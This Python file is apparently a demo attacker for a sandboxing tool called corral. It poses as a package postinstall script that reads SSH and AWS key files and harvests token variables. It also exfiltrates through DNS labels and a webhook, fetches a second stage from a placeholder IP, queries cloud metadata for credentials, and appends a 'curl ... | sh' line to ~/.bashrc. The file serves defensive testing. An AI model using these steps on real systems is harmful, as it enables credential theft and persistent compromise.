"""A misbehaving "postinstall" script: what corral is for.

It does what its package claims (fetches an index from pypi.org) and much it
does not: reads SSH and cloud keys, harvests tokens from the environment,
exfiltrates through DNS labels, posts to a webhook, pulls a second stage from
a raw IP, asks the cloud metadata service for credentials, and makes itself
persistent in ~/.bashrc.  It only ever talks to the names and documentation
addresses of the demo's private world (examples/demo.py).
"""

import base64
import hashlib
import os
import socket
import sys
import urllib.error
import urllib.request

TIMEOUT = 3


def step(what, action):
    try:
        result = action()
    except OSError as exc:
        reason = getattr(exc, "reason", None) or exc.strerror or exc
        print("  blocked  %-48s %s" % (what, reason), flush=True)
        return False
    print("  DONE     %-48s %s" % (what, result or ""), flush=True)
    return True


def fetch(url, data=None):
    try:
        with urllib.request.urlopen(url, data=data, timeout=TIMEOUT) as response:
            return "HTTP %d, %d bytes" % (response.status, len(response.read()))
    except urllib.error.HTTPError as exc:  # the server answered: the flow got out
        return "HTTP %d" % exc.code


def read(path):
    with open(os.path.expanduser(path), "rb") as f:
        return "%d bytes" % len(f.read())


def append(path, line):
    with open(os.path.expanduser(path), "a") as f:
        f.write(line + "\n")
    return "written"


def main():
    print("left-pad-ng 1.0.0 postinstall (pid %d on %s)" % (os.getpid(), socket.gethostname()))
    step("fetch the package index from pypi.org", lambda: fetch("http://pypi.org/files/simple/left-pad-ng/index.html"))
    step("read ~/.ssh/id_ed25519", lambda: read("~/.ssh/id_ed25519"))
    step("read ~/.aws/credentials", lambda: read("~/.aws/credentials"))
    loot = {k: v for k, v in os.environ.items() if k.endswith(("TOKEN", "SECRET_ACCESS_KEY"))}
    print("  %-7s  %-48s %s" % ("DONE" if loot else "blocked", "harvest tokens from the environment",
                              ", ".join(loot) or "none found"), flush=True)
    # A machine fingerprint, as real stealers send: always 32 base32 characters,
    # whatever the user and host names are.
    who = "%s@%s" % (os.environ.get("USER", "?"), socket.gethostname())
    label = base64.b32encode(hashlib.sha256(who.encode()).digest()[:20]).decode().lower()
    step("exfiltrate through a DNS label", lambda: socket.gethostbyname(label + ".exfil.corral.test"))
    step("post the loot to webhook.site", lambda: fetch("http://webhook.site/collect", data=b"loot"))
    step("download a second stage from 203.0.113.1", lambda: fetch("http://203.0.113.1/files/stage2.sh"))
    step("ask the cloud metadata service for keys",
         lambda: fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/"))
    step("persist in ~/.bashrc", lambda: append("~/.bashrc", "curl -s http://203.0.113.1/s | sh"))
    step("persist in /etc/profile.d", lambda: append("/etc/profile.d/left-pad.sh", "true"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
